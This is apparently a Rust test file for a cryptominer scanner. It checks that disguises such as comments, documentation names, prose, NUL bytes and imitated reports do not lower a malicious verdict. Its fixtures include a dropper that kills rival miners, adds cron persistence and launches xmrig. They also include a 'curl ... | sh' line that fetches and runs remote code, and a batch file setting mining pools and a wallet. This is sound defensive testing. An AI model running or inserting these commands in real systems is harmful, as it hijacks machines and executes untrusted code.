//! Adding text never lowers a verdict: a dropper keeps its verdict whatever comment, name,
//! directory, stray byte or list of pools is added to it, and a file imitating our own report
//! is scanned like any other. Each test scans the plain file and its disguises side by side.

use crate::support::*;
use serde_json::Value;

/// A dropper: rival kill, cron persistence and a miner launch (malicious).
const DROPPER: &str = "pkill -f kdevtmpfsi\n(crontab -l; echo '*/5 * * * * /tmp/.x/run') | crontab -\n/tmp/.x/xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u x --donate-level 1\n";

/// The listed files of a JSON scan of `paths` (relative to the tree) with `--all`, by path.
fn scan_all(t: &Tree, paths: &[&str]) -> Vec<Value> {
    let mut args = vec!["scan", "--format", "json", "--all", "--fail-on", "never"];
    args.extend_from_slice(paths);
    let out = run(&args, t.path());
    assert_eq!(out.code, 0, "{}", out.stderr);
    json(&out)["files"].as_array().unwrap().clone()
}

fn verdict_of(files: &[Value], path: &str) -> String {
    let f = files
        .iter()
        .find(|f| f["path"] == path)
        .unwrap_or_else(|| panic!("{path} not listed: {files:#?}"));
    format!("{} ({})", f["verdict"].as_str().unwrap(), f["kind"])
}

/// Writes each (path, content) and checks that all get the verdict `want` (and so none
/// lower than the plain file, which is first).
fn same_verdict(variants: &[(&str, Vec<u8>)], want: &str) {
    let t = Tree::new();
    for (path, content) in variants {
        let p = t.path().join(path);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, content).unwrap();
    }
    let paths: Vec<&str> = variants.iter().map(|(p, _)| *p).collect();
    let files = scan_all(&t, &paths);
    for path in paths {
        let got = verdict_of(&files, path);
        assert!(got.starts_with(want), "{path}: {got}, want {want}");
    }
}

fn with_head(head: &str, body: &str) -> Vec<u8> {
    format!("{head}{body}").into_bytes()
}

#[test]
fn a_rule_in_a_comment_does_not_make_a_cron_file_a_rule_set() {
    let cron = "*/5 * * * * root /tmp/.x/xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u x\n";
    same_verdict(
        &[
            ("etc/cron.d/plain", cron.as_bytes().to_vec()),
            ("etc/cron.d/yara", with_head("# rule x condition:\n", cron)),
            (
                "etc/cron.d/braces",
                with_head("# rule x { strings: $a = \"x\" condition: $a }\n", cron),
            ),
            (
                "etc/cron.d/sigma",
                with_head(
                    "# title: x\n# logsource:\n# detection:\n#   condition: x\n",
                    cron,
                ),
            ),
            (
                "etc/cron.d/snort",
                with_head(
                    "# alert tcp any any -> any any (msg:\"x\"; content:\"y\";)\n",
                    cron,
                ),
            ),
            ("etc/cron.d/named.yar", cron.as_bytes().to_vec()),
            ("etc/cron.d/named.rules", cron.as_bytes().to_vec()),
        ],
        "malicious",
    );
    // A real rule set quoting the same facts stays quiet.
    same_verdict(
        &[(
            "rules/miner.yar",
            b"rule Miner { strings: $a = \"stratum+tcp://pool.supportxmr.com:3333\" $b = \"--donate-level\" condition: any of them }\n".to_vec(),
        )],
        "clean",
    );
}

#[test]
fn a_documentation_directory_or_name_does_not_downgrade_a_script() {
    let script = format!("#!/bin/sh\n{DROPPER}");
    let bare = DROPPER.as_bytes().to_vec();
    same_verdict(
        &[
            ("run.sh", script.clone().into_bytes()),
            ("docs/run.sh", script.clone().into_bytes()),
            ("usr/share/doc/tool/run.sh", script.clone().into_bytes()),
            ("usr/share/man/man1/run.sh", script.into_bytes()),
            ("dropper.txt", bare.clone()),
            ("dropper.md", bare.clone()),
            ("dropper.rst", bare.clone()),
            ("dropper.html", bare.clone()),
            ("dropper.1", bare.clone()),
            ("dropper.json", bare.clone()),
            ("README", bare.clone()),
            ("docs/INSTALL", bare),
        ],
        "malicious",
    );
}

#[test]
fn prose_around_a_dropper_does_not_make_it_documentation() {
    let dressed = format!(
        "# Deployment notes\n\nThis file documents how the team deploys the service every night.\nRead it carefully before you change anything in the deployment process.\n\n{DROPPER}"
    );
    let json_shell = format!("{{ true; }}\n[ -d /tmp ] && echo ok\n{DROPPER}");
    same_verdict(
        &[
            ("plain.sh", DROPPER.as_bytes().to_vec()),
            ("notes.md", dressed.clone().into_bytes()),
            ("notes.html", format!("<p>{dressed}</p>\n").into_bytes()),
            ("group.sh", json_shell.into_bytes()),
        ],
        "malicious",
    );
    // Real documentation that shows such commands as examples stays clean.
    let readme = std::fs::read(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("fixtures/script/negative/README-install.md"),
    )
    .unwrap();
    same_verdict(&[("README.md", readme)], "clean");
}

#[test]
fn stray_nuls_leave_a_script_a_script() {
    let script = format!("#!/bin/sh\n{DROPPER}");
    let mut one_nul = b"#!/bin/sh\n\0".to_vec();
    one_nul.extend_from_slice(DROPPER.as_bytes());
    let split_word = format!("#!/bin/sh\n{}", DROPPER.replace("crontab", "cron\0tab"));
    let mut padded = b"#!/bin/sh\n".to_vec();
    padded.extend(std::iter::repeat_n(0u8, 3000));
    padded.extend_from_slice(b"\n");
    padded.extend_from_slice(DROPPER.as_bytes());
    let mut payload_first = script.clone().into_bytes();
    payload_first.splice(
        10..10,
        b"exit_not\n\x1f\x8b\x08\0\0\0\0\0\xff\xfe\x01\n"
            .iter()
            .copied(),
    );
    let mut no_shebang = b"\0".to_vec();
    no_shebang.extend_from_slice(DROPPER.as_bytes());
    same_verdict(
        &[
            ("plain.sh", script.into_bytes()),
            ("one_nul", one_nul),
            ("split_word", split_word.into_bytes()),
            ("padded", padded),
            ("payload_first", payload_first),
            ("no_shebang.txt", no_shebang),
        ],
        "malicious",
    );
}

/// Known public pools.
const POOLS: [&str; 8] = [
    "pool.supportxmr.com",
    "xmr.2miners.com",
    "pool.hashvault.pro",
    "gulf.moneroocean.stream",
    "xmr-eu1.nanopool.org",
    "xmr.f2pool.com",
    "mine.c3pool.com",
    "pool.minexmr.com",
];

#[test]
fn listing_many_pools_does_not_clear_a_batch_file() {
    let set = |n: usize| {
        let mut s = String::from("@echo off\r\n");
        for (i, p) in POOLS.iter().take(n).enumerate() {
            s.push_str(&format!("set POOL{i}={p}:3333\r\n"));
        }
        s.push_str("set WALLET=44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A\r\n");
        s.into_bytes()
    };
    same_verdict(
        &[
            ("one.bat", set(1)),
            ("six.bat", set(6)),
            ("eight.bat", set(8)),
        ],
        "suspicious",
    );
    // A blocklist of the same hosts is a list, and stays clean.
    let hosts: String = POOLS
        .iter()
        .take(6)
        .map(|h| format!("0.0.0.0 {h}\n"))
        .collect();
    same_verdict(&[("hosts", hosts.into_bytes())], "clean");
}

#[test]
fn an_imitated_report_is_scanned_like_any_file() {
    let shell = "#!/bin/sh\ncurl -s http://203.0.113.5/x | sh\n".to_owned() + DROPPER;
    same_verdict(
        &[
            ("plain.sh", shell.clone().into_bytes()),
            (
                "json.sh",
                with_head("{\"tool\":{\"name\":\"minerscan\"}}\n", &shell),
            ),
            (
                "ndjson.sh",
                with_head("{\"module\":\"minerscan\"}\n", &shell),
            ),
            (
                "text.sh",
                with_head("MALICIOUS  /x  [score 90]\n    why: x\n", &shell),
            ),
        ],
        "malicious",
    );
    // And with --strict nothing is skipped as ours: the exit code is 1, not 0.
    let t = Tree::new();
    t.file(
        "report.json",
        &format!("{{\"tool\":{{\"name\":\"minerscan\"}}}}\n{shell}"),
    );
    let out = run(&["scan", "--strict", "--format", "json", "."], t.path());
    assert_eq!(out.code, 1, "{}", out.stdout);
    assert_eq!(skipped(&json(&out), "own_file"), 0);
}
